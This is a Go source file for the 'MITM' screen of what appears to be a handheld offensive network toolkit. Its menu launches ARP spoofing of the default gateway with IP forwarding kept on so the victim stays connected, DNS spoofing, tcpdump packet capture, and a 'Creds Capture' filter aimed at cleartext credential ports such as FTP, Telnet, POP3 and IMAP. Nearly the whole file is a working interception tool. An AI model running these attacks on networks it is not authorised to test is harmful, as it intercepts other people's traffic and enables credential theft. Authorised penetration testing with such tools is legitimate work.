package modes

import (
	"context"
	"fmt"
	"time"

	"pkt.systems/opsdeck/core"
	"pkt.systems/opsdeck/schema"
)

const mitmTimeout = 10 * time.Minute

// MITMMode runs on-path attacks and packet captures on the uplink.
type MITMMode struct {
	env  Env
	menu *menu
}

// NewMITMMode constructs the man-in-the-middle screen.
func NewMITMMode(env Env) *MITMMode {
	return &MITMMode{env: env, menu: newMenu("MITM", env.Store)}
}

func (m *MITMMode) ID() schema.ModeID      { return "mitm" }
func (m *MITMMode) Title() string          { return "MITM" }
func (m *MITMMode) AllowsBackground() bool { return false }

func (m *MITMMode) iface() string { return m.env.iface(schema.ResourceNetwork) }

func (m *MITMMode) Enter(ctx context.Context) {
	m.menu.reset([]menuItem{
		{label: "ARP Spoof (GW)", run: m.arpSpoof},
		{label: "DNS Spoof", run: m.dnsSpoof},
		{label: "Packet Capture", run: func(ctx context.Context) { m.capture(ctx, "Packet Capture", "") }},
		{label: "HTTP Capture", run: func(ctx context.Context) { m.capture(ctx, "HTTP Capture", "port 80 or port 8080") }},
		{label: "Creds Capture", run: func(ctx context.Context) {
			m.capture(ctx, "Creds Capture", "port 21 or port 23 or port 25 or port 80 or port 110 or port 143")
		}},
		{label: "Stop All MITM", run: m.stopAll},
	})
}

func (m *MITMMode) Exit(context.Context) {}

func (m *MITMMode) HandleInput(ctx context.Context, event schema.InputEvent) {
	m.menu.handle(ctx, event)
}

func (m *MITMMode) Tick(context.Context) {}

// arpSpoof poisons both directions via the default gateway. IP forwarding
// is enabled in the same shell so the victim keeps connectivity.
func (m *MITMMode) arpSpoof(ctx context.Context) {
	iface := shellQuote(m.iface())
	m.env.start(ctx, core.StartRequest{
		Mode: m.ID(), Name: "ARP Spoof",
		Command: "sh",
		Args: []string{"-c", fmt.Sprintf(
			"sudo sysctl -w net.ipv4.ip_forward=1 && "+
				"gw=$(ip route | awk '/default/ {print $3; exit}') && "+
				"sudo arpspoof -i %s -t \"$gw\" -r", iface)},
		Resource: schema.ResourceNetwork,
		Timeout:  mitmTimeout,
		Category: "mitm", Ext: "log",
	})
}

func (m *MITMMode) dnsSpoof(ctx context.Context) {
	m.env.start(ctx, core.StartRequest{
		Mode: m.ID(), Name: "DNS Spoof",
		Command:  "sudo",
		Args:     []string{"dnsspoof", "-i", m.iface()},
		Resource: schema.ResourceNetwork,
		Timeout:  mitmTimeout,
		Category: "mitm", Ext: "log",
	})
}

func (m *MITMMode) capture(ctx context.Context, name, filter string) {
	args := []string{"tcpdump", "-i", m.iface(), "-w", "-"}
	if filter != "" {
		args = append(args, filter)
	}
	m.env.start(ctx, core.StartRequest{
		Mode: m.ID(), Name: name,
		Command:  "sudo",
		Args:     args,
		Resource: schema.ResourceNetwork,
		Timeout:  mitmTimeout,
		Category: "captures", Ext: "pcap",
	})
}

func (m *MITMMode) stopAll(ctx context.Context) {
	m.env.start(ctx, core.StartRequest{
		Mode: m.ID(), Name: "Stop MITM",
		Command: "sh",
		Args: []string{"-c",
			"sudo pkill -9 arpspoof; sudo pkill -9 dnsspoof; sudo pkill -9 tcpdump; " +
				"sudo iptables -t nat -F; sudo sysctl -w net.ipv4.ip_forward=0"},
		Timeout: 10 * time.Second,
	})
}
